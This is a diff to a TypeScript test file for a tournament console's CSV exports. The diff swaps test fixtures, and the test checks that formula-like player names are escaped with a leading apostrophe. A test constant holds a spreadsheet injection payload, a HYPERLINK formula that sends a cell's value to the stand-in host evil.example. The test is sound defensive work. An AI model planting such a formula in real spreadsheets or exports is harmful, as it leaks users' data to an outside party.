@@ -3,10 +3,9 @@
 import { afterEach, describe, expect, it } from 'vitest';
 import { csvLine, tournamentApi, TournamentDesk } from '../../arbiter-console/internal.ts';
 import { loadEvent, presetJson } from '../../tournament/index.ts';
-import { testHall, type TestHall } from './fixtures.ts';
-import { consoleRound } from './tournament-fixtures.ts';
+import { testDesk, type TestDesk } from './tournament-fixtures.ts';
 
-let t: TestHall | undefined;
+let t: TestDesk | undefined;
 afterEach(() => t?.cleanup());
 
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
@@ -32,8 +31,8 @@ function csv(desk: TournamentDesk, path: string, query: Record<string, string> =
 describe('the CSV exports', () => {
   it("start with a UTF-8 BOM and write a formula-like name as text (a leading ') in pairings and standings", () => {
     const event = eventWithFormulaNames();
-    t = testHall(consoleRound(event, 1));
-    const desk = TournamentDesk.open(t.hall, { event })!;
+    t = testDesk(event);
+    const desk = t.desk;
 
     const pairings = csv(desk, '/api/pairings.csv', { round: '1' });
     expect(pairings.startsWith('\uFEFFround,board,hall board,')).toBe(true);
